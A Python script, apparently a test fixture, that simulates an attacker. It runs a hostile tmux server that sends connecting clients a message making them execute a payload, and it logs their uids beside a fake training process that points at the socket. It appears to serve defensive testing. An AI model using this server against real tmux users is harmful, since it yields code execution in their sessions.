"""What an attacker runs: a training on a terminal, and a tmux server that runs code in its clients.

Usage: hostile_tmux.py SOCKET PAYLOAD SEEN

Listens on SOCKET and answers every tmux client with the message upon which it executes PAYLOAD;
the uid of each that connected is added to SEEN. A "training" whose output is a terminal, and whose
environment names that server, is started as well. Prints its pid, and ends with standard input.
"""

from __future__ import annotations

import os
import pty
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

MSG_SHELL = 209
"""Of tmux's protocol 8, spoken since 3.0: the client executes the path that follows."""
RANK = {"RANK": "0", "LOCAL_RANK": "0", "WORLD_SIZE": "1", "MASTER_ADDR": "::1", "MASTER_PORT": "1"}


def serve(listener: socket.socket, payload: str, seen: Path) -> None:
    """Answer each client; a test that only looks whether somebody listens is recorded as well."""
    path = payload.encode() + b"\0"
    message = struct.pack("=IHHII", MSG_SHELL, 16 + len(path), 0, 8, os.getpid()) + path
    while True:
        client, _ = listener.accept()
        found = client.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i"))
        with seen.open("a") as file:
            file.write(f"{struct.unpack('3i', found)[1]}\n")
        threading.Thread(target=answer, args=(client, message)).start()


def answer(client: socket.socket, message: bytes) -> None:
    """Keep the connection until the client has gone."""
    with client:
        try:
            client.sendall(message)
            while client.recv(4096):
                pass
        except OSError:
            pass


def main() -> None:
    """Serve and train until standard input ends."""
    where, payload, seen = sys.argv[1:]
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(where)
    Path(where).chmod(0o777)
    listener.listen(16)
    threading.Thread(target=serve, args=(listener, payload, Path(seen)), daemon=True).start()
    _, terminal = pty.openpty()
    training = subprocess.Popen(
        [sys.executable, "-c", "import time\nwhile True: print('loss 1'); time.sleep(0.1)"],
        stdin=subprocess.DEVNULL,
        stdout=terminal,
        env={**os.environ, **RANK, "TMUX": f"{where},1,0"},
    )
    sys.stdout.write(f"{training.pid}\n")
    sys.stdout.flush()
    sys.stdin.read()
    training.kill()
    os._exit(0)


if __name__ == "__main__":
    main()
